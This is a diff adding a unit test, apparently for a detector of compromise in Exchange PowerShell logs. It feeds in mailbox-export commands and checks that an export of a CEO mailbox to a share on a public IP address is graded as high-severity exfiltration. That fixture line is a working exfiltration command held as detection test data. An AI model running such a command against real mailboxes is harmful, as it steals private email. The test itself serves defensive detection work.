@@ -73,3 +73,23 @@ describe('CmdletInfra cmdlet logs beyond the Rps Cmdlet file', () => {
     expect(h.verdict).toBe('compromised');
   });
 });
+
+describe('where a mailbox export goes', () => {
+  it('a share named by a public IP address is exfiltration (high); an internal share or server is the admin workflow (info) (review9 F8)', () => {
+    const exportTo = (time: string, mailbox: string, path: string) => row(time, 'New-MailboxExportRequest', `-Mailbox "${mailbox}" -FilePath "${path}"`);
+    const rows = [
+      exportTo('2023-01-11T16:22:00.000Z', 'ceo@contoso.se', '\\\\45.77.12.34\\share\\ceo.pst'),
+      exportTo('2023-01-11T16:23:00.000Z', 'hr@contoso.se', '\\\\fs01\\pst\\hr.pst'),
+      exportTo('2023-01-11T16:24:00.000Z', 'legal@contoso.se', '\\\\10.0.0.5\\pst\\legal.pst'),
+    ].map((r) => r.map(quoteCsv).join(','));
+    const h = scan('exfil', `${EX}/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011116-1.LOG`, [...DIRECTIVES, ...rows].join('\r\n') + '\r\n');
+    const graded = h.findings.filter((f) => f.rule === 'PS-08').map((f) => [f.evidence.file, f.severity, f.kind]);
+    expect(graded).toEqual([
+      ['\\\\45.77.12.34\\share\\ceo.pst', 'high', 'post-exploitation'],
+      ['\\\\fs01\\pst\\hr.pst', 'info', 'post-exploitation'],
+      ['\\\\10.0.0.5\\pst\\legal.pst', 'info', 'post-exploitation'],
+    ]);
+    expect(h.verdict).toBe('compromised');
+    expect(h.reasons[0]).toContain('a share on the internet address 45.77.12.34');
+  });
+});
